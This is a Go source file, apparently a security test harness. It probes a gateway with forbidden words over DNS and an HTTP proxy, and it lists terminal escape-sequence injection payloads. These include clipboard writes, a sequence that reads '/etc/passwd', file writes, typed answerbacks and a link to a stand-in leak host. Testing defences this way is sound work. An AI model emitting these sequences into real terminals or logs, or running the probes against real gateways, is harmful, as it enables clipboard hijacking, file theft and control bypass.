//go:build linux

package attacks

import (
	"context"
	"errors"
	"io"
	"net/netip"
)

// Speak asks the gateway for every one of Words by every way, also over DNS, so
// that they are in its record, and in whatever is printed of that.
func Speak(ctx context.Context) error {
	gateway, ok := Targets{}.gateway()
	if !ok {
		return errors.New("nobody says where the gateway is")
	}
	for _, word := range Words() {
		for _, host := range []string{word, word + ".example"} {
			for _, w := range ways() {
				if open, said := w.ask(ctx, Targets{}, gateway, host, w.port); open {
					return errors.New("let through: " + said)
				}
			}
			label := word[:min(len(word), 63)]
			for _, network := range []string{"udp", "tcp"} {
				_, _ = askRaw(ctx, network, netip.AddrPortFrom(gateway, 53), rawQuestion(label, "example")) // refused, or no answer
			}
		}
		// In a method and in a path, to where something is allowed and to where not.
		for _, message := range []string{"GET http://refused.example/" + word + " HTTP/1.1\r\nHost: refused.example\r\n\r\n", word + " http://refused.example/ HTTP/1.1\r\nHost: refused.example\r\n\r\n"} {
			_, _ = exchange(ctx, gateway, 3128, message) // refused
		}
	}
	return nil
}

// rawQuestion is a question of DNS for labels of any bytes.
func rawQuestion(labels ...string) []byte {
	question := []byte{0, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0}
	for _, label := range labels {
		question = append(append(question, byte(len(label))), label...) //nolint:gosec // G115: 63 at most
	}
	return append(question, 0, 0, 1, 0, 1)
}

// Shouts are what a terminal would act on: write the person's clipboard, type
// an answer of the program's choice, write files, show what is not there.
func Shouts() []string {
	return []string{
		"\x1b]52;c;cHduZWQ=\x07", "\x1bPtmux;\x1b\x1b]52;c;eA==\x07\x1b\\", "\x05", "\x1b[21t", "\x1bP$q\"p\x1b\\", "\x1bP+q544e\x1b\\", "\x1b]50;?\x07",
		"\x1b]46;/tmp/log\x07", "\x1b_Gf=100,t=f;L2V0Yy9wYXNzd2Q=\x1b\\", "\x1b[5i", "\x1b]1337;File=name=eA==;inline=1:AAAA\x07", "\x1b]8;;https://leak.example/\x1b\\",
		"\u009b21t", "\u009d52;c;eA==\u009c", "\x9b21t", "\x90$q\x9c", "\xc1\x9b[21t", "\x1b[1;1;1;1;24;80*y", "\x1bGQ", "\x1b[2h", "\x1bkevil\x1b\\",
	}
}

// Shout says all of it, and then the word.
func Shout(out io.Writer, word string) error {
	for _, shout := range append(Shouts(), word) {
		if _, err := io.WriteString(out, shout+"\n"); err != nil {
			return err
		}
	}
	return nil
}
